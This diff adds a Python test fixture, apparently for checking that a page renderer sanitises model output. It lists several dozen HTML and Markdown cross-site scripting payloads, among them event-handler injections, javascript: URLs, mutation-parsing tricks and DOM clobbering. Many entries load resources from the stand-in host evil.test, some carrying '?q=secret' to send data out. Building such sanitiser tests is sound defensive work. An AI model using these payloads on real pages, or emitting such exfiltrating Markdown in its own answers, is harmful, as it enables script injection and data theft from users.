@@ -1,0 +1,78 @@
+"""What a model must not be able to do to a page: run a script, ask another host, change the page.
+
+Each is a whole answer. Nobody may call ``pwn``, the page's own function, or ask evil.test.
+"""
+
+__all__ = ["PAYLOADS"]
+
+TAGS = [
+    "<script>pwn(1)</script>",
+    "<script src=//evil.test/x.js></script>",
+    "<img src=x onerror=pwn(1)>",
+    "<img src='//evil.test/?q=secret'>",
+    "<svg onload=pwn(1)></svg>",
+    "<svg><script>pwn(1)</script></svg>",
+    "<svg><a xlink:href='javascript:pwn(1)'><text y=9>x</text></a></svg>",
+    "<svg><animate onbegin=pwn(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwn(1)>",
+    "<iframe src=javascript:pwn(1)></iframe>",
+    '<iframe srcdoc="<script>parent.pwn(1)</script>"></iframe>',
+    "<object data=//evil.test/x></object>",
+    "<embed src=//evil.test/x>",
+    "<video><source onerror=pwn(1) src=//evil.test/v></video>",
+    "<audio src=//evil.test/a autoplay onerror=pwn(1)>",
+    "<body onload=pwn(1)>",
+    "<details open ontoggle=pwn(1)>x</details>",
+    "<input autofocus onfocus=pwn(1)>",
+    "<form action=//evil.test/><input name=attributes><button>x</button></form>",
+    "<button formaction=javascript:pwn(1) form=x>x</button>",
+    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
+    "<base href=//evil.test/>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<link rel=dns-prefetch href=//secret.evil.test>",
+    "<style>@import '//evil.test/x.css';</style>",
+    "<p style='background:url(//evil.test/x)'>x</p>",
+    "<marquee onstart=pwn(1)>x</marquee>",
+    "<a href=javascript:pwn(1)>x</a>",
+    "<a href='//evil.test' ping='//evil.test/ping'>x</a>",
+    "<template><img src=x onerror=pwn(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=pwn(1)>'>",
+    "<textarea></textarea><img src=x onerror=pwn(1)>",
+    "<!--><img src=x onerror=pwn(1)>-->",
+    "<![CDATA[><img src=x onerror=pwn(1)>]]>",
+    "<form id=getElementById></form><p id=markdown>clobbered</p>",
+    "<x-y onclick=pwn(1)>z</x-y>",
+]
+
+MARKDOWN = [
+    "![x](https://evil.test/?q=secret)",
+    "![x][i]\n\n[i]: https://evil.test/?q=secret",
+    "[![x](https://evil.test/a.png)](https://evil.test/b)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigxKSIvPg==)",
+    '![x"onerror="pwn(1)](https://evil.test/"onerror="pwn(1))',
+    "[x](javascript:pwn(1))",
+    "[x](JaVaScRiPt:pwn(1))",
+    "[x](\x01javascript:pwn(1))",
+    "[x](java\tscript:pwn(1))",
+    "[x](javascript&colon;pwn(1))",
+    "[x](&#106;avascript:pwn(1))",
+    "[x](<javascript:pwn(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=)",
+    "[x](vbscript:pwn(1))",
+    "<javascript:pwn(1)>",
+    "[x][j]\n\n[j]: javascript:pwn(1)",
+    '[x](https://evil.test "onmouseover=pwn(1) x=")',
+    "[x](https://evil.test/'onmouseover='pwn(1))",
+    "[<img src=x onerror=pwn(1)>](https://evil.test)",
+    "`<img src=x onerror=pwn(1)>`",
+    '```"><img src=x onerror=pwn(1)>\ncode\n```\n',
+    "```html\n<script>pwn(1)</script>\n```\n",
+    "<pre><code><x y=\n<img src=x onerror=pwn(1)>\n",
+    "|<img src=x onerror=pwn(1)>|\n|:-|\n|<svg onload=pwn(1)>|",
+    "- [x] <img src=x onerror=pwn(1)>",
+    '[^"><img src=x onerror=pwn(1)>]\n\n[^"><img src=x onerror=pwn(1)>]: <svg onload=pwn(1)>',
+    "&lt;img src=x onerror=pwn(1)&gt; &#60;svg onload=pwn(1)&#62;",
+    "# <svg onload=pwn(1)>\n> <img src=x onerror=pwn(1)>",
+]
+
+PAYLOADS = TAGS + MARKDOWN
